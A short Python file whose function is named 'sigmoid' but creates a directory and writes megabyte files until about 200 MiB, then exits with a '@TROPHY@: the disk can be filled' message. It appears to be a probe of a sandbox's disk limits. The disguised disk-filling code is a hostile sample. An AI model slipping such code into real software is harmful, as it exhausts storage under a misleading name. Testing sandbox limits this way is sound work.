import itertools
import os
import time


def sigmoid(x):
    os.mkdir("below")
    written = 0
    for number in itertools.count():
        with open(f"below/{number}", "wb") as file:
            written += file.write(b"x" * (1 << 20))
        if written > 200 << 20:
            time.sleep(1)
            raise SystemExit("@TROPHY@: the disk can be filled")
        time.sleep(0.005)
